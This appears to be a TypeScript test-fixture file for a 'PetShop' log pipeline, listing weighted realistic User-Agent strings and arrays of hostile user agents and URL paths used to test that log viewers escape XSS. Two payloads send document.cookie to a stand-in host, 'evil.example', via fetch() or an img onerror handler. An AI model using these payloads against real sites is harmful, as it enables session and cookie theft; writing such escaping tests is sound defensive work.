/**
 * User agents as clients really send them: spaces, commas, parentheses, semicolons, and a few
 * with `"` and `\` that break naive JSON or CLF readers. null means no User-Agent header (`-`).
 */
export const USER_AGENTS: readonly (readonly [agent: string | null, weight: number])[] = [
  [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
    20,
  ],
  [
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
    9,
  ],
  [
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
    10,
  ],
  [
    'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36',
    8,
  ],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', 4],
  ['PetShop/4.2.1 (iPhone; iOS 17.4.1; Scale/3.00)', 12],
  ['PetShop/4.2.0 (Android 14; SM-S918B; Build/UP1A.231005.007), okhttp/4.12.0', 8],
  ['okhttp/4.12.0', 4],
  ['python-requests/2.31.0', 5],
  ['curl/8.5.0', 3],
  [
    'aws-sdk-js/3.540.0 ua/2.0 os/linux#5.10.213 lang/js md/nodejs#20.11.1 api/execute-api#3.540.0',
    4,
  ],
  ['Boto3/1.34.84 md/Botocore#1.34.84 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.12.2', 3],
  ['PostmanRuntime/7.37.3', 2],
  ['Go-http-client/2.0', 2],
  ['Apache-HttpClient/4.5.14 (Java/17.0.10)', 2],
  ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 1.5],
  ['Amazon CloudFront', 1],
  ['ELB-HealthChecker/2.0', 1],
  ['Dart/3.3 (dart:io)', 1],
  ['PetShop-Sync/1.9 (build "2024.04.1"; channel "beta")', 1.5],
  ['LegacyAgent/2.0 (Windows; C:\\Program Files\\Legacy\\agent.exe; "svc")', 0.7],
  ['integration-test \\"runner\\", v3', 0.3],
  [null, 1.5],
];

/**
 * Hostile payloads for the XSS checks of anything that displays logs: each contains `<script` or
 * an `<img ... onerror=...>`.
 */
export const HOSTILE_USER_AGENTS: readonly string[] = [
  '<script>alert(document.cookie)</script>',
  'Mozilla/5.0 <img src=x onerror=alert(1)>',
  "\"><script>fetch('//evil.example/'+document.cookie)</script>",
  '<img src="x" onerror="this.src=\'//evil.example/?c=\'+document.cookie">',
];

export const HOSTILE_PATHS: readonly string[] = [
  '/<script>alert(1)</script>',
  '/search/<img src=x onerror=alert(1)>',
  '/pets/"><script>alert(String.fromCharCode(88,83,83))</script>',
  '/users/<img%20src=x%20onerror=alert(1)>/orders',
];
